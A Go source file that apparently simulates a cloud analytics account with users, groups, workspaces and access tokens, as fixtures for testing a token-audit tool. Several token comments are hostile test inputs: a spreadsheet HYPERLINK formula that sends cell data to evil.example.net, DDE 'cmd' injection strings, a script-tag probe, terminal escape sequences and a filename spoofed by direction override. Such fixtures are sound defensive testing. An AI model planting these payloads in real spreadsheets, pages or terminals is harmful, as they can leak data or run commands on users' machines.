package simulator

import (
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
)

// bigID is the smallest number that a float64 rounds once it is odd: ids above
// it show clients that decode into floats.
const bigID = 1 << 53

// stream is the random numbers of one part of the population. Each part has
// its own, so that more workspaces do not change the first ones.
func stream(seed uint64, part string) *rand.Rand {
	h := fnv.New64a()
	h.Write([]byte(part))
	return rand.New(rand.NewPCG(seed, h.Sum64()))
}

func uuid(rng *rand.Rand) string {
	return fmt.Sprintf("%08x-%04x-4%03x-%04x-%012x",
		rng.Uint32(), rng.Uint32()&0xffff, rng.Uint32()&0xfff, 0x8000|rng.Uint32()&0x3fff, rng.Uint64()&0xffffffffffff)
}

// secret is a credential of 16 random bytes.
func secret(rng *rand.Rand, prefix string) string {
	b := make([]byte, 16)
	for i := range b {
		b[i] = byte(rng.Uint32())
	}
	return prefix + hex.EncodeToString(b)
}

// people are the principals that tokens are handed out to, by role: persons, and
// groups of alike ones.
type people struct {
	person map[string]*principal
	alike  map[string][]*principal
}

// caster makes principals with ids that never collide: the low bits count.
type caster struct {
	dir  *directory
	rng  *rand.Rand
	next int64
}

// newID alternates between small ids and odd ones above 2^53.
func (c *caster) newID() int64 {
	c.next++
	if c.next%3 == 0 {
		return bigID + (c.rng.Int64N(1<<37)<<24 | c.next<<1 | 1)
	}
	return c.rng.Int64N(1<<28)<<24 | 1<<52 | c.next<<1
}

func (c *caster) user(name, display string) *principal {
	return c.dir.add(User{ID: c.newID(), Name: name, DisplayName: display, Active: true})
}

func (c *caster) service(display string) *principal {
	return c.dir.add(User{ID: c.newID(), Name: uuid(c.rng), DisplayName: display, Active: true, Service: true})
}

// populate fills a new account. The size of the directory follows the number of
// tokens, but the special roles are always there.
func populate(a *Account) {
	rng := stream(a.opts.Seed, "account")
	a.id = uuid(rng)
	a.directory = &directory{byID: map[int64]*principal{}, byName: map[string]*principal{}}
	c := &caster{dir: a.directory, rng: rng}
	tokens := a.opts.Tokens
	cast := &people{map[string]*principal{}, map[string][]*principal{}}
	join := func(role string, p *principal) { cast.alike[role] = append(cast.alike[role], p) }
	for _, p := range [][3]string{
		{"admin", "patrol-admin@example.com", "Patrol Admin"},
		{"viewer", "viewer@example.com", "Viewer Without Rights"},
		{"nested", "platform.lead@example.com", "Platform Lead"},
		{"deep nested", "on.call@example.com", "On Call"},
		{"contractor", "contractor@example.net", "External Contractor"},
		{"elsewhere", "moved.on@example.com", "Moved To Another Workspace"},
	} {
		cast.person[p[0]] = c.user(p[1], p[2])
	}
	cast.person["admin"].accountAdmin = true
	join("busy", c.user("busy.builder@example.com", "Busy Builder"))
	for i := range 2 {
		p := c.user(fmt.Sprintf("deactivated%02d@example.com", i+1), "Deactivated User")
		p.Active = false
		join("inactive", p)
	}
	// Display names that are hard on tables, terminals and quoting.
	for i, display := range []string{
		"User 001", "Zoë O'Brien 🚀", "מ. משתמש", "مستخدم تجريبي", `Pat "Quotes", Jr.; Sr.`, "=1+1 Formula", "用户 七",
	} {
		join("active", c.user(fmt.Sprintf("user%03d@example.com", i+1), display))
	}
	for i := range tokens/4 + 12 { // ordinary people: a quarter as many as tokens
		p := c.user(fmt.Sprintf("user%03d@example.com", i+8), fmt.Sprintf("User %03d", i+8))
		p.Active = i%24 != 23
		if !p.Active {
			join("inactive", p)
			continue
		}
		if i%512 == 511 {
			join("busy", p)
		}
		join("active", p)
	}
	for i := range tokens/100 + 1 { // they are in no directory
		join("departed", &principal{User: User{ID: c.newID(), Name: fmt.Sprintf("former%02d@example.com", i+1)}})
	}
	auditor := c.service("account-auditor")
	auditor.accountAdmin, auditor.secret = true, secret(rng, "dose")
	a.directory.auditor = auditor
	for _, name := range []string{"etl-runner", "ci-deployer", `dbt "nightly"; job`, "bi-gateway 📊"} {
		join("service", c.service(name))
	}
	c.service("retired-loader").Active = false
	for i := range tokens / 40 {
		join("service", c.service(fmt.Sprintf("service-%03d", i+1)))
	}
	// Every workspace puts platform-admins into its admins; break-glass is nested in it.
	for _, name := range []string{"platform-admins", "break-glass", "data-engineers", "ml-team 🤖"} {
		g := newGroup(c.newID(), name)
		g.account = true
		a.directory.groups = append(a.directory.groups, g)
	}
	platform, glass, engineers, science := a.directory.groups[0], a.directory.groups[1], a.directory.groups[2], a.directory.groups[3]
	platform.members = []*principal{cast.person["nested"], glass}
	glass.members = []*principal{cast.person["deep nested"]}
	engineers.members = []*principal{cast.person["viewer"], cast.alike["service"][0], cast.person["contractor"]}
	for i, p := range cast.alike["active"][:min(len(cast.alike["active"]), 400)] {
		switch i % 4 {
		case 1:
			engineers.add(p)
		case 3:
			science.add(p)
		}
	}
	for i := range a.opts.Workspaces {
		a.workspaces = append(a.workspaces, newWorkspace(a, i, cast))
	}
}

// newWorkspace is a workspace with its settings and tokens: production is lax on
// purpose, the sandbox is strict, the others vary.
func newWorkspace(a *Account, i int, cast *people) *workspace {
	cloud := [][2]string{{"azure", "westeurope"}, {"aws", "eu-central-1"}, {"gcp", "europe-west3"}}[i%3]
	name, env := fmt.Sprintf("workspace-%02d", i+1), "test"
	if i < 2 {
		name, env = []string{"prod-analytics", "dev-sandbox"}[i], []string{"prod", "dev"}[i]
	}
	rng := stream(a.opts.Seed, "workspace "+name)
	admin, viewer := cast.person["admin"], cast.person["viewer"]
	ws := &workspace{
		Workspace: Workspace{
			Name: name, Cloud: cloud[0], Profile: name, Labels: map[string]string{"env": env, "cloud": cloud[0]},
			Admin: admin.Name, Viewer: viewer.Name,
		},
		region: cloud[1], created: a.born.AddDate(-3, 0, -i).UnixMilli(), admin: admin, viewer: viewer,
		outside: cast.person["elsewhere"].ID, grantState: GrantsInitialised,
	}
	if i%2 == 0 { // above 2^53 for every other workspace, the first included
		ws.ID = bigID + rng.Int64N(1<<50)*2 + 1
	} else {
		ws.ID = 1e15 + rng.Int64N(7e15)
	}
	ws.Token, ws.ViewerToken = secret(rng, "dapi"), secret(rng, "dapi")
	switch ws.Cloud {
	case "azure":
		ws.deployment = fmt.Sprintf("adb-%d.%d", ws.ID, i+3)
	case "gcp":
		ws.deployment = fmt.Sprintf("%d.%d", ws.ID, i+3)
	default:
		sum := sha256.Sum256([]byte(ws.Name))
		ws.deployment = fmt.Sprintf("dbc-%x-%x", sum[:4], sum[4:6])
	}
	c := &caster{dir: a.directory, rng: rng, next: int64(1<<20 + 16*i)}
	ws.client = c.service(name + "-automation")
	ws.client.secret = secret(rng, "dose")
	ws.ClientID, ws.ClientSecret = ws.client.Name, ws.client.secret
	ws.admins, ws.users = newGroup(c.newID(), "admins"), newGroup(c.newID(), "users")
	ws.admins.members = []*principal{admin, ws.client, a.directory.auditor, cast.alike["active"][0], a.directory.groups[0]}
	switch i {
	case 0:
		ws.conf = map[string]string{
			"enableResultsDownloading": "true", "enableExportNotebook": "true", "enableWebTerminal": "true",
			"enableVerboseAuditLogs": "false", "enforceUserIsolation": "false",
		}
		ws.grants = []Grant{{GroupName: "users", Level: CanUse}}
		ws.restrict = restrictSetting{status: AllowAll, version: 1}
	case 1:
		ws.conf = map[string]string{
			"maxTokenLifetimeDays": "90", "enableTokensConfig": "true", "enableIpAccessLists": "TRue",
			"enableVerboseAuditLogs": "true", "enableResultsDownloading": "false", "maxUserInactiveDays": "90",
		}
		ws.grants = []Grant{
			{GroupName: "admins", Level: CanUse}, // a second level on the admins' entry
			{GroupName: "data-engineers", Level: CanUse},
			{UserName: cast.alike["active"][2].Name, Level: CanUse},
		}
		ws.restrict = restrictSetting{status: RestrictTokensAndJobRuns, version: 4}
		ws.ipLists = []IPList{
			{"office", "ALLOW", []string{"192.0.2.0/24", "198.51.100.7"}, true},
			{"old vpn", "BLOCK", []string{"203.0.113.0/25"}, false},
		}
	default:
		ws.conf = map[string]string{"maxTokenLifetimeDays": []string{"0", "365", "30"}[i%3], "enableIpAccessLists": "false"}
		ws.grants = []Grant{{GroupName: []string{"users", "data-engineers"}[i%2], Level: CanUse}}
		ws.restrict = restrictSetting{status: []string{AllowAll, RestrictTokensAndJobRuns}[i%2], version: i}
	}
	if i%5 == 4 && a.opts.Tokens == 0 { // there never was a token
		ws.grantState = GrantsNotInitialised
	}
	fillTokens(a, ws, cast, rng)
	return ws
}

// Autoscope states of generated tokens.
const (
	autoscopeDisabled      = "AUTOSCOPE_STATE_DISABLED"
	autoscopeRunning       = "AUTOSCOPE_STATE_RUNNING"
	autoscopeCompleted     = "AUTOSCOPE_STATE_COMPLETED"
	autoscopeBackfilled    = "AUTOSCOPE_STATE_BACKFILLED"
	autoscopeUserSelected  = "AUTOSCOPE_STATE_USER_SELECTED"
	autoscopeAPINotCovered = "AUTOSCOPE_STATE_API_NOT_COVERED"
)

const (
	forever = -1 // lifetime
	unused  = -1 // days since the last use
)

// life is how long a token lives, its age and how long ago it was used, in days.
// Drawn tokens vary a little, to the same effect. The zero life is a healthy one:
// 30 to 85 days, of which at least 15 are left, and in use.
type life struct{ days, age, idle int64 }

// kind is one sort of token. The first tokens of a workspace are one of each
// row, in order; the rest are drawn by weight.
type kind struct {
	name    string
	weight  int    // relative share among the drawn tokens; 0 never drawn
	role    string // of the owner; "": anybody active
	life    life
	comment string // of the one of the row; drawn tokens have ordinary ones
	scopes  Token  // its scopes and state of autoscope
}

// Rows that are made in a way of their own.
const (
	secretInComment   = "secret-in-comment"
	rotationLeftover  = "rotation-leftover"
	rotationSuccessor = "rotation-successor"
	expiryCliff       = "expiry-cliff"
)

// kinds is the catalogue; at most 40 rows, so that a workspace of 40 tokens has
// them all. Hostile comments sit on tokens that break policy, because that is
// where they reach reports.
var kinds = []kind{
	{"caller", 0, "admin", life{90, 10, 0}, "patrol audit", Token{}},
	{"healthy", 600, "", life{}, "OPS-1234 nightly load", Token{}},
	{"endless", 40, "", life{forever, 400, 1}, `=HYPERLINK("https://evil.example.net/?x="&A1,"renew")`, Token{}},
	{"never-used-old", 40, "", life{90, 45, unused}, "<script>alert(1)</script>", Token{}},
	{"unused-over-90-days", 60, "", life{365, 200, 120}, "+cmd|' /C calc'!A0", Token{}},
	{"lifetime-365", 30, "", life{365, 60, 0}, "@SUM(1+1)*cmd|' /C calc'!A0", Token{}},
	{"lifetime-730", 20, "", life{730, 400, 2}, "\x1b[31mred\x1b[0m alert\x1b[2J", Token{}},
	{"expired", 40, "", life{60, 70, 20}, "\x1b]8;;https://evil.example.net/\x1b\\link\x1b]8;;\x1b\\", Token{}},
	{secretInComment, 3, "busy", life{}, "", Token{}},
	{"deactivated-owner", 15, "inactive", life{60, 30, 12}, "invoice\u202Egpj.exe", Token{}},
	{"departed-owner", 8, "departed", life{60, 30, 25}, "left\x00over", Token{}},
	{"on-behalf-of", 30, "service", life{}, "OPS-77 deployment pipeline", Token{}},
	{"expiring-soon", 20, "", life{60, 57, 0}, "renew me", Token{}},
	{"scope-authentication", 3, "busy", life{}, "token broker", Token{Scopes: []string{"authentication"}}},
	{"lifetime-90-exactly", 10, "", life{90, 20, 0}, "90 days, not a second more", Token{}},
	{"lifetime-90-and-30s", 5, "", life{90, 15, 0}, "_x000D_ literal", Token{}},
	{"issued-365-ten-days-left", 10, "", life{365, 355, 0}, "DATA-9 yearly token", Token{}},
	{"never-used-young", 40, "", life{60, 3, unused}, "just created", Token{}},
	{rotationLeftover, 8, "", life{85, 50, 20}, "airflow prod", Token{}},
	{rotationSuccessor, 0, "", life{85, 20, 0}, "", Token{}},
	{"contractor-owner", 3, "contractor", life{60, 20, 1}, "vendor, access", Token{}},
	{"nested-admin-owner", 2, "nested", life{}, "break glass", Token{}},
	{"deep-nested-admin-owner", 2, "deep nested", life{}, "on call", Token{}},
	{"owner-outside-workspace", 1, "elsewhere", life{60, 40, 35}, "moved on", Token{}},
	{"viewer", 0, "viewer", life{60, 5, 0}, "viewer laptop", Token{}},
	{"scoped", 10, "busy", life{}, "dashboard, read only",
		Token{Scopes: []string{"sql", "unity-catalog"}, AutoscopeState: autoscopeUserSelected}},
	{"autoscope-disabled", 5, "busy", life{}, "autoscope off",
		Token{Scopes: []string{allAPIs}, AutoscopeState: autoscopeDisabled}},
	{"autoscope-running", 5, "busy", life{}, "autoscope observing",
		Token{Scopes: []string{allAPIs}, AutoscopeState: autoscopeRunning, InferredScopes: []string{"sql", "unity-catalog"}}},
	{"autoscope-completed", 5, "busy", life{}, "autoscope done",
		Token{Scopes: []string{"sql", "unity-catalog"}, AutoscopeState: autoscopeCompleted, InferredScopes: []string{"sql", "unity-catalog"}}},
	{"autoscope-backfilled", 5, "busy", life{}, "autoscope from history",
		Token{Scopes: []string{allAPIs}, AutoscopeState: autoscopeBackfilled, BackfillScopes: []string{"jobs", "clusters"}}},
	{"autoscope-not-covered", 2, "busy", life{}, "autoscope impossible",
		Token{Scopes: []string{allAPIs}, AutoscopeState: autoscopeAPINotCovered}},
	{"empty-comment", 10, "", life{}, "", Token{}},
	{expiryCliff, 15, "", life{}, "\ttab first", Token{}},
	{expiryCliff, 0, "", life{}, "two\r\nlines", Token{}},
	{expiryCliff, 0, "", life{}, "🔥 emoji 👩‍💻 é", Token{}},
	{expiryCliff, 0, "", life{}, `"quotes",commas;semicolons`, Token{}},
	{expiryCliff, 0, "", life{}, strings.Repeat("64 KiB of comment, ", 4<<10)[:64<<10], Token{}},
	{"owner-with-many-tokens", 15, "busy", life{}, "scratch 1", Token{}},
	{"owner-with-many-tokens", 0, "busy", life{}, "scratch 2", Token{}},
	{"service-principal", 40, "service", life{}, "self-service token", Token{}},
}

// ordinaryComments are drawn, those that stand here twice the more often; %d is a
// number.
var ordinaryComments = []string{
	"OPS-%d nightly load", "OPS-%d nightly load", "OPS-%d nightly load", "DATA-%d dashboard refresh", "DATA-%d dashboard refresh", "INFRA-%d terraform",
	"laptop", "laptop", "notebook sync", "ci run %d", "", "databricks-connect",
}

// fillTokens generates the workspace's tokens: one of each kind, then by weight.
func fillTokens(a *Account, ws *workspace, cast *people, rng *rand.Rand) {
	count, now := a.opts.Tokens, a.born.UnixMilli()
	ws.tokens = tokenStore{rows: make([]*Token, 0, count), index: make(map[string]int, count)}
	successor := slices.IndexFunc(kinds, func(k kind) bool { return k.name == rotationSuccessor })
	var wheel []int // each index as often as its weight
	for i, k := range kinds {
		for range k.weight {
			wheel = append(wheel, i)
		}
	}
	pick := func(role string) *principal { return cast.alike[role][rng.IntN(len(cast.alike[role]))] }
	ofPersons := 0                        // tokens of particular persons
	last, owner := &Token{}, &principal{} // those of the last round
	block := make([]Token, count)         // one allocation for all
	for i := range block {
		k := &kinds[min(i, len(kinds)-1)]
		drawn := i >= len(kinds)
		if drawn {
			k = &kinds[wheel[rng.IntN(len(wheel))]]
			if last.Kind == rotationLeftover {
				k = &kinds[successor]
			}
		}
		t := &block[i]
		*t = k.scopes
		t.Kind = k.name
		// The id follows from a value, as with the service. Values are not kept, apart
		// from those of the two tokens that clients use.
		switch k.name {
		case "caller":
			t.ID = tokenIDOf(ws.Token)
		case "viewer":
			t.ID = tokenIDOf(ws.ViewerToken)
		default:
			var id [sha256.Size]byte
			for i := 0; i < len(id); i += 8 {
				binary.LittleEndian.PutUint64(id[i:], rng.Uint64())
			}
			t.ID = hex.EncodeToString(id[:])
		}

		anyone := pick("active")
		switch person := cast.person[k.role]; {
		case k.name == rotationSuccessor: // the owner of the last
		case person != nil:
			// In a huge workspace one person would soon exceed the quota of live tokens.
			owner = anyone
			if ofPersons++; ofPersons <= tokenQuota/4 {
				owner = person
			}
		case k.role == "":
			owner = anyone
		case drawn || k.role == "inactive":
			owner = pick(k.role)
		default:
			owner = cast.alike[k.role][0]
		}
		t.OwnerID, t.CreatedByID, t.CreatedByUsername = owner.ID, owner.ID, owner.Name
		if k.name == "on-behalf-of" {
			t.CreatedByID, t.CreatedByUsername = ws.admin.ID, ws.admin.Name
		}

		switch {
		case k.name == rotationSuccessor:
			t.Comment = last.Comment
		case k.name == secretInComment: // computed, for scanners of source code are right to complain about literals
			sum := sha256.Sum256(fmt.Appendf(nil, "fake %s %d", ws.Name, rng.Uint64()))
			t.Comment = "backup of dapi" + hex.EncodeToString(sum[:16])
		case drawn:
			number := strconv.Itoa(rng.IntN(9000) + 1000)
			t.Comment = strings.Replace(ordinaryComments[rng.IntN(len(ordinaryComments))], "%d", number, 1)
		default:
			t.Comment = k.comment
		}

		if k.name == expiryCliff { // in three weeks, on the same day as all of its kind
			days := 40 + rng.Int64N(40)
			t.ExpiryTime = midnight(now) + 21*dayMillis + 8*60*60*1000 + rng.Int64N(8*60*60*1000)
			t.CreationTime, t.LastUsedDay = t.ExpiryTime-days*dayMillis, midnight(now)
		} else {
			l := k.life
			if l == (life{}) {
				l.days = 30 + rng.Int64N(56)
				l.age = rng.Int64N(l.days - 15)
				l.idle = min(rng.Int64N(3), l.age)
			}
			t.CreationTime = now - l.age*dayMillis - rng.Int64N(dayMillis/2)
			t.ExpiryTime = never
			if l.days != forever {
				t.ExpiryTime = t.CreationTime + l.days*dayMillis
			}
			if k.name == "lifetime-90-and-30s" {
				t.ExpiryTime += 30 * 1000
			}
			if l.idle != unused {
				t.LastUsedDay = midnight(now - l.idle*dayMillis)
			}
		}
		last = t
		ws.tokens.put(t)
	}
}
